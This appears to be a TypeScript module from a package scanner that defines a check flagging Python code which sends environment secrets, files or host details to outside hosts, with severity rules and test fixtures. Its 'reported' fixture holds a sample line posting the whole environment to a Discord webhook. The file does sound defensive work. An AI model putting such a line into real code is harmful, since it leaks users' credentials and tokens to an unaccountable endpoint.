import type { Severity } from "../../model/finding.ts";
import { references } from "../references.ts";
import { byTrigger, type CodeCheck, codeCheck } from "./code-check.ts";
import { collects, isChatHook, isLocal } from "./known-hosts.ts";

export const sendsDataOut: CodeCheck = codeCheck({
  id: "code/sends-data-out",
  title: "Code sends data of the machine somewhere else",
  severity: "high",
  confidence: "likely",
  runsAt: "import",
  explanation: `
    What leaves here is the machine's own: its environment with the secrets that builds keep in it, files of the person,
    names of host and user, or keys that are handed to a function. Where the address is a web hook of a chat, a catcher of
    requests or a tunnel, nobody answers for what happens to it. pip, uv and Python run such code with everything that the
    person may read.`,
  remedy:
    "Do not install it. If it ran already, change every password and token that the environment or the files held.",
  references: [references.backEnds],
  fixtures: {
    reported: {
      filename: "chatty-1.0-py3-none-any.whl",
      files: {
        "chatty.py":
          'import os\nimport requests\n\nrequests.post("https://discord.com/api/webhooks/1/a", json=dict(os.environ))\n',
      },
    },
    clean: {
      filename: "chatty-1.0-py3-none-any.whl",
      files: {
        "chatty.py":
          'import subprocess\nimport os\n\n\ndef run():\n    return subprocess.run(["git", "status"], env=dict(os.environ))\n',
      },
    },
    alsoReported: ["code/contacts-network"],
  },

  rate({ capability, trigger, names }) {
    const sent = SENT[capability];
    if (sent === undefined && (!capability.startsWith("network.") || capability === "network.socket")) return null;
    const isAnonymous = names.hosts.some(collects) || names.urls.some(isChatHook);
    if (isAnonymous && trigger !== "test") return "high";
    if (sent === undefined) return null;
    const isNamed = names.hosts.length > 0 && !names.hosts.every(isLocal);
    if (capability === "network.exfil-parameter" && !isNamed) return "info";
    return byTrigger(trigger, { ...USUAL, deferred: isNamed ? sent.whenCalled : "info" });
  },
  say(effect) {
    const [where] = [...effect.names.urls, ...effect.names.hosts];
    const what = SENT[effect.capability]?.what ?? "something";
    return `${effect.callee} sends ${what} to ${where ?? "another machine"}.`;
  },
});

const USUAL = { unasked: "high", imported: "high", script: "info", deferred: "info", test: "info" } as const;

/** What leaves, and how bad it is in a function that sends it to a host that it names itself. */
const SENT: Readonly<Record<string, { readonly what: string; readonly whenCalled: Severity } | undefined>> = {
  "network.exfil": { what: "secrets or the environment", whenCalled: "medium" },
  "network.exfil-private": { what: "what another program keeps for itself", whenCalled: "high" },
  "network.exfil-fingerprint": { what: "who and where it is", whenCalled: "low" },
  "network.exfil-parameter": { what: "a secret that it was called with", whenCalled: "high" },
};
